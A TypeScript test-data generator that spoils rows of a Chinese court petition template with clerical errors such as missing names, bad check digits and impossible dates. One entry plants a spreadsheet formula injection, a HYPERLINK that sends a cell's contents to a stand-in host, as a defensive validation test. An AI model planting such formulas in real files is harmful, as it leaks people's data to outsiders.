/** Rows as they should not be: each kind of mistake that clerks make, and one that attackers do. */
import type { TemplateRow } from './row.js';
import type { SampleCourts } from './courts.js';
import type { Random } from './random.js';

type Spoil = (row: TemplateRow, random: Random, courts: SampleCourts) => TemplateRow;

const MISTAKES: Readonly<Record<string, Spoil>> = {
  'missing petitioner': ({ petitionerName: _, ...row }) => row,
  'wrong check digit': (row) => ({ ...row, petitionerIdentityNumber: withWrongCheckDigit(row) }),
  'unreadable case number': (row) => ({ ...row, caseNumber: String(row.caseNumber).replace(/[（）()号]/g, '') }),
  "another court's sign": (row, random, { elsewhere }) => ({
    ...row,
    caseNumber: `（2021）${random.pick(elsewhere).sign}执${random.integer(1, 999)}号`,
  }),
  'unknown court': (row) => ({ ...row, executingCourt: '福建省连江市人民法院', caseNumber: undefined }),
  'formula as text': (row) => ({ ...row, demands: '=HYPERLINK("http://example.invalid/?"&I2,"点击查看")' }),
  'unknown word': (row) => ({ ...row, channel: '传真' }),
  'impossible day': (row) => ({ ...row, receivedOn: '2026年2月30日' }),
  'not a phone': (row) => ({ ...row, petitionerPhone: '见附件' }),
  'more received than applied for': (row) => ({ ...row, amountReceived: Number(row.amountApplied) + 1 }),
  'missing claim': ({ claimText: _, ...row }) => row,
};

/** Makes one mistake in a row; all kinds of mistakes come in turn. */
export function spoil(row: TemplateRow, turn: number, random: Random, courts: SampleCourts): TemplateRow {
  const mistakes = Object.values(MISTAKES);
  return mistakes[turn % mistakes.length]!(row, random, courts);
}

function withWrongCheckDigit({ petitionerIdentityNumber }: TemplateRow): string {
  const number = String(petitionerIdentityNumber);
  return number.slice(0, 17) + (number[17] === '0' ? '1' : '0');
}
